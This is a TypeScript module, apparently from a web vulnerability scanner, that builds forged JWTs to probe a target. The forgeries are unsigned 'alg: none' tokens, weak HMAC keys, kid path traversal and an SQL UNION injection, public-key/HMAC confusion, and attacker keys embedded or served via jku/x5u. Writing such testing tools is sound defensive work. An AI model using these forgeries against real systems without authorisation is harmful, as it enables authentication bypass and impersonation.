import { isRecord } from '../../../shared/records.ts';
import type { JwtFault } from '../../core/evidence/api.ts';
import { hasResponse } from '../../core/evidence/http.ts';
import type { ProbeContext } from '../../core/probe-context.ts';
import { isPathAllowed } from '../../crawl/link-policy.ts';
import { type LoopbackCallbacks, openLoopback } from '../../transport/callbacks/loopback-callbacks.ts';
import { mask } from '../../web/quote.ts';
import { jsonOf } from '../../web/token-in.ts';
import type { OperationReader } from '../operations/operation-reader.ts';
import type { Reading } from '../operations/survey.ts';
import { hmacSigner, type Jwt, signedBy, weakKeyOf } from './jwt.ts';
import { makeOwnKey } from './own-key.ts';
import { type PublicKey, publicKeysIn, textsOf } from './public-keys.ts';

/** A token that only its issuer should be able to make. */
export interface Forgery {
  readonly fault: JwtFault;
  readonly detail: string;
  make(claims: Readonly<Record<string, unknown>>): string;
  /** The target fetched the key of the last token; absent where nothing is fetched. */
  isFetched?(): boolean;
}

const KEY_SETS = ['/.well-known/openid-configuration', '/.well-known/jwks.json', '/jwks.json'];
const KEYS_MAX = 2;
const SAME = 'returns the same properties';

/** Forgeries of a token, the cheapest first (RFC 8725, section 2). Those that need a key of the application look for it. */
export async function* forgeries(reader: OperationReader, readings: readonly Reading[], jwt: Jwt) {
  const { context } = reader;
  yield* withoutKey(jwt);
  if (typeof jwt.header['kid'] === 'string') yield* withKeyId(context, jwt);
  if (/^(?:RS|PS|ES|Ed)/.test(String(jwt.header['alg'])))
    yield* withPublicKey(await publishedKeys(context, readings, jwt), jwt);
  const listener = await openLoopback(context);
  try {
    yield* withOwnKey(context, jwt, listener);
  } finally {
    await listener?.close();
  }
}

function* withoutKey(jwt: Jwt): Generator<Forgery> {
  yield {
    fault: 'none_accepted',
    detail: `the claims with "alg": "none" and without a signature return the same properties`,
    make: (claims) => signedBy(jwt, { alg: 'none' }, claims, () => ''),
  };
  const key = weakKeyOf(jwt);
  if (key === null) return;
  const { alg } = jwt.header;
  yield {
    fault: 'weak_key',
    detail: `${String(alg).slice(0, 10)} with the well-known key ${mask(key)}; a token that the scan signed with it ${SAME}`,
    make: (claims) => signedBy(jwt, {}, claims, hmacSigner(alg, key)),
  };
}

/** An algorithm of HMAC: that of the token, or the usual one. */
function hmacName({ header: { alg } }: Jwt): string {
  return /^HS(?:256|384|512)$/.test(String(alg)) ? String(alg) : 'HS256';
}

/** The id of the key as the path of an empty file, and as a statement that selects a key of the scan's own. Both only read. */
function* withKeyId(context: ProbeContext, jwt: Jwt): Generator<Forgery> {
  const alg = hmacName(jwt);
  const kid = `${'../'.repeat(12)}dev/null`;
  yield {
    fault: 'kid_injection',
    detail: `a token signed with an empty key, whose kid is the path of an empty file (${kid}), ${SAME}`,
    make: (claims) => signedBy(jwt, { alg, kid }, claims, hmacSigner(alg, '')),
  };
  yield {
    fault: 'kid_injection',
    detail: `a token whose kid selects its key by SQL (' UNION SELECT …) ${SAME}`,
    make: (claims) => {
      const key = context.token(20);
      const injected = `${context.token(8)}' UNION SELECT '${key}`;
      return signedBy(jwt, { alg, kid: injected }, claims, hmacSigner(alg, key));
    },
  };
}

/** A public key is no secret: a program that takes the algorithm from the token verifies an HMAC with it. */
function* withPublicKey(keys: readonly PublicKey[], jwt: Jwt): Generator<Forgery> {
  const alg = 'HS256';
  const texts = new Set(keys.flatMap(textsOf));
  for (const text of texts)
    yield {
      fault: 'key_confusion',
      detail: `a token signed as ${alg} with the text of the public key that the application publishes ${SAME}`,
      make: (claims) => signedBy(jwt, { alg }, claims, hmacSigner(alg, text)),
    };
}

/** The keys that verify the token, as far as the application publishes them: that of its kid first. */
async function publishedKeys(context: ProbeContext, readings: readonly Reading[], jwt: Jwt): Promise<PublicKey[]> {
  const { kid } = jwt.header;
  const known = readings.flatMap(({ own, anonymous }) => [own, anonymous]).flatMap((one) => one?.response.text ?? []);
  const keys = known.flatMap(publicKeysIn);
  let named: unknown = null;
  for (const path of KEY_SETS) {
    if (keys.length > 0) break;
    const text = await readText(context, typeof named === 'string' ? named : path);
    keys.push(...publicKeysIn(text));
    const value = jsonOf(text);
    named = isRecord(value) ? value['jwks_uri'] : null;
  }
  const rank = (key: PublicKey) => (key.kid === kid ? 0 : 1);
  return keys.sort((one, other) => rank(one) - rank(other)).slice(0, KEYS_MAX);
}

async function readText(context: ProbeContext, reference: string): Promise<string> {
  const { origin } = context.target;
  const url = URL.parse(reference, origin);
  if (url === null || url.origin !== origin || !isPathAllowed(url, context.options)) return '';
  const attempt = await context.fetch({ url: url.href });
  return hasResponse(attempt) && attempt.response.status === 200 ? attempt.response.text : '';
}

/** Tokens that bring the key of the scan, or the address where it can be fetched, in their header (RFC 7515, section 4.1). */
async function* withOwnKey(
  context: ProbeContext,
  jwt: Jwt,
  listener: LoopbackCallbacks | null,
): AsyncGenerator<Forgery> {
  const { alg, jwk, certificate, sign } = await makeOwnKey(String(jwt.header['alg']), context.now);
  // Under an id of the application, a program might keep this key instead of the real one.
  const kid = context.token(12);
  const named = { ...jwk, kid };
  const forgery = (name: string, member: () => unknown): Forgery => ({
    fault: 'header_key',
    detail: `a token signed with a key of the scan, which its header has as ${name}, ${SAME}`,
    make: (claims) => signedBy(jwt, { alg, kid, [name]: member() }, claims, sign),
  });
  yield forgery('jwk', () => named);
  yield forgery('x5c', () => [certificate]);
  if (listener === null) return;
  const fetched = (name: string, text: string): Forgery => {
    let given = '';
    const give = () => {
      const at = listener.name();
      given = at.name;
      listener.give(given, text);
      return at.url();
    };
    return { ...forgery(name, give), isFetched: () => listener.has(given) };
  };
  yield fetched('jku', JSON.stringify({ keys: [named] }));
  const lines = certificate.match(/.{1,64}/g) ?? [];
  yield fetched('x5u', ['-----BEGIN CERTIFICATE-----', ...lines, '-----END CERTIFICATE-----', ''].join('\n'));
}
